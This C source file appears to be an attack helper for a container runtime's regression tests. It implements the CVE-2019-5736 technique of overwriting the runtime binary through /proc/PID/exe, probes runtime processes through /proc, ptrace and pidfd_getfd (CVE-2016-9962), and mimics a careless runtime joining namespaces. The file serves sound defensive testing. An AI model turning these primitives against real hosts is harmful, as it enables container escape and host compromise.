/*
 * attack_binary.c - for tests/attacks/1_binary.bats: what lies in wait in a container for the runtime's processes, and a
 * runtime that is careless enough to be caught. A static program of small commands that print facts as "key=value" lines.
 *
 *	attack_binary grab DEV:INODE	waits for a process that was executed from this file, and keeps the file; on SIGUSR1
 *					opens it anew for writing, as CVE-2019-5736 does
 *	attack_binary watch DEV:INODE NAME
 *					looks into processes of that name and program, until SIGUSR1 (CVE-2016-9962)
 *	attack_binary careless PID COMMAND [ARGUMENT...]
 *					joins the namespaces of PID as a runtime of old: dumpable, and for a while to be seen
 *	attack_binary self		the device and inode of /proc/self/exe
 *
 * Called with anything else it stays for a moment, as a runtime that was executed by "#!/proc/self/exe".
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define WAIT_SECONDS 60

static volatile sig_atomic_t told;

static void tell(int number)
{
	(void)number;
	told = 1;
}

static const char *outcome(long result)
{
	return result >= 0 ? "OK" : strerrorname_np(errno);
}

static int fail(const char *what)
{
	fprintf(stderr, "attack_binary: %s: %s\n", what, strerror(errno));
	return 1;
}

static void rest(long milliseconds)
{
	struct timespec t = {.tv_nsec = milliseconds * 1000000};

	nanosleep(&t, NULL);
}

/* The next process that is not this one; 0 at the end of a round. */
static int next_process(DIR *proc)
{
	struct dirent *entry;

	while ((entry = readdir(proc)) != NULL)
		if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != getpid())
			return atoi(entry->d_name);
	rewinddir(proc);
	return 0;
}

/* ---- grab ---- */

static int open_of(int pid, const char *name, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	return open(path, flags | O_CLOEXEC);
}

static int grab(char **args)
{
	DIR *proc = opendir("/proc");
	time_t end = time(NULL) + WAIT_SECONDS;
	char seen[64], link[64];
	int held = -1, fd = -1;

	if (!proc)
		return fail("/proc");
	while (!told && time(NULL) < end) {
		int pid = next_process(proc);
		struct stat st;

		fd = pid == 0 || held >= 0 ? -1 : open_of(pid, "exe", O_RDONLY);
		if (held >= 0)
			rest(1);
		if (fd < 0)
			continue;
		snprintf(seen, sizeof(seen), "%lu:%lu",
			 fstat(fd, &st) == 0 ? (unsigned long)st.st_dev : 0UL,
			 (unsigned long)st.st_ino);
		if (strcmp(seen, args[0]) != 0) {
			close(fd);
			continue;
		}
		held = fd;
		printf("met=1\n");
		fflush(stdout);
	}
	if (held < 0) {
		printf("write=none\n");
		return 0;
	}
	snprintf(link, sizeof(link), "/proc/self/fd/%d", held);
	for (int i = 0; i < 200; i++) {
		fd = open(link, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY) /* busy: somebody still executes it */
			break;
		rest(10);
	}
	printf("write=%s\n", outcome(fd < 0 ? fd : pwrite(fd, "overwritten", 11, 0)));
	return 0;
}

/* ---- watch ---- */

static bool has_name(int pid, const char *name)
{
	char text[32] = "";
	int fd = open_of(pid, "comm", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return false;
	text[strcspn(text, "\n")] = '\0';
	return strcmp(text, name) == 0;
}

static const char *const files[] = {"exe",    "mem",  "environ", "maps",       "fd/0",
				    "fd/3",   "root", "cwd",	 "auxv",       "syscall",
				    "ns/mnt", "io",   "stack",	 "personality"};
#define FILES (sizeof(files) / sizeof(files[0]))

/*
 * Whether it is still what it was, and not the command: in the middle of execve it has the command's memory and the old name.
 * Where it cannot be looked at it is none that could be looked at.
 */
static bool is_runtime(int pid, const char *file, const char *name)
{
	char path[64], seen[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (stat(path, &st) < 0)
		return has_name(pid, name);
	snprintf(seen, sizeof(seen), "%lu:%lu", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	return strcmp(seen, file) == 0;
}

static bool look_by(size_t way, int pid)
{
	char c;
	int fd;

	if (way == FILES) {
		if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
			return false;
		/* One that is not let go cannot be waited for by its parent. */
		if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
		    waitpid(pid, NULL, __WALL) == pid)
			(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
		return true;
	}
	if (way == FILES + 1) {
		int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

		fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0);
		if (pidfd >= 0)
			close(pidfd);
	} else {
		fd = open_of(pid, files[way], strcmp(files[way], "root") == 0 ? O_PATH : O_RDONLY);
		/* Some of them say no only when they are read. */
		if (fd >= 0 && strcmp(files[way], "root") != 0 && strcmp(files[way], "cwd") != 0 &&
		    strncmp(files[way], "ns/", 3) != 0 && strncmp(files[way], "fd/", 3) != 0 &&
		    strcmp(files[way], "mem") != 0 && read(fd, &c, 1) < 0) {
			close(fd);
			fd = -1;
		}
	}
	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

static int watch(char **args)
{
	DIR *proc = opendir("/proc");
	time_t end = time(NULL) + WAIT_SECONDS;
	int counts[FILES + 2] = {0}, met = 0;

	if (!proc)
		return fail("/proc");
	while (!told && time(NULL) < end) {
		int pid = next_process(proc);

		if (pid == 0 || !has_name(pid, args[1]))
			continue;
		if (met++ == 0) {
			printf("met=1\n");
			fflush(stdout);
		}
		for (size_t way = 0; way < FILES + 2; way++)
			counts[way] += look_by(way, pid) && is_runtime(pid, args[0], args[1]);
	}
	for (size_t way = 0; way < FILES + 2; way++)
		printf("%s=%d\n",
		       way < FILES    ? files[way]
		       : way == FILES ? "ptrace"
				      : "pidfd_getfd",
		       counts[way]);
	return 0;
}

/* ---- a careless runtime ---- */

static int careless(char **args)
{
	int pidfd = (int)syscall(SYS_pidfd_open, atoi(args[0]), 0),
	    user = open_of(atoi(args[0]), "ns/user", O_RDONLY);
	struct stat theirs, ours;
	pid_t pid;
	int status;

	if (pidfd < 0 || user < 0 || fstat(user, &theirs) < 0 || stat("/proc/self/ns/user", &ours) < 0)
		return fail(args[0]);
	if (setns(pidfd, CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWIPC | CLONE_NEWUTS |
				 (theirs.st_ino != ours.st_ino ? CLONE_NEWUSER : 0)) < 0)
		return fail("setns");
	(void)prctl(PR_SET_NAME, "careless");
	(void)prctl(PR_SET_DUMPABLE, 1);
	pid = fork();
	if (pid < 0)
		return fail("fork");
	if (pid == 0) {
		rest(50);
		execv(args[1], args + 1);
		_exit(127);
	}
	return waitpid(pid, &status, 0) == pid && WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int show_self(void)
{
	struct stat st;

	if (stat("/proc/self/exe", &st) < 0)
		return fail("/proc/self/exe");
	printf("%lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	return 0;
}

int main(int argc, char **argv)
{
	signal(SIGUSR1, tell);
	if (argc == 3 && strcmp(argv[1], "grab") == 0)
		return grab(argv + 2);
	if (argc == 4 && strcmp(argv[1], "watch") == 0)
		return watch(argv + 2);
	if (argc > 3 && strcmp(argv[1], "careless") == 0)
		return careless(argv + 2);
	if (argc == 2 && strcmp(argv[1], "self") == 0)
		return show_self();
	rest(50);
	fprintf(stderr, "attack_binary: what am I to do?\n");
	return 1;
}
